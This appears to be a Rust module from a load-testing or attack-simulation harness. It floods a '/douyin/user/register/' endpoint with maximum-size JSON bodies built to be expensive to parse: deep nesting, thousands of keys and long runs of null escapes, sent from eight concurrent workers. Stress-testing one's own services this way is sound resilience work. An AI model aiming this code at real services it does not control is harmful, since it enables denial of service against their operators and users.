//! Sends bodies of the maximum size that are expensive to parse.

use std::time::Duration;

use crate::{attacker::Attacker, source::client};

const WORKERS: u16 = 8;
/// At most 400 calls per second, 25 MB.
const PAUSE: Duration = Duration::from_millis(20);
const BODY_BYTES: usize = 64 * 1024 - 16;

pub(super) async fn run(attacker: Attacker) {
    let Ok(client) = client(attacker.address(0)) else { return };
    let bodies = [nested(), many_names(), escapes()];
    attacker
        .repeat(WORKERS, PAUSE, async |worker| {
            let body = bodies[usize::from(worker) % bodies.len()].clone();
            let request = client.post(attacker.url("/douyin/user/register/"));
            attacker.call(request.header("content-type", "application/json").body(body)).await;
        })
        .await;
}

fn nested() -> String {
    r#"{"a":"#.repeat(BODY_BYTES / 5)
}

fn many_names() -> String {
    let mut body = String::from("{");
    for number in 0.. {
        let member = format!("\"{number:x}\":1,");
        if body.len() + member.len() > BODY_BYTES {
            break;
        }
        body.push_str(&member);
    }
    body.push_str("\"username\":1}");
    body
}

fn escapes() -> String {
    format!(r#"{{"username":"{}"}}"#, r"\u0000".repeat(BODY_BYTES / 6 - 4))
}
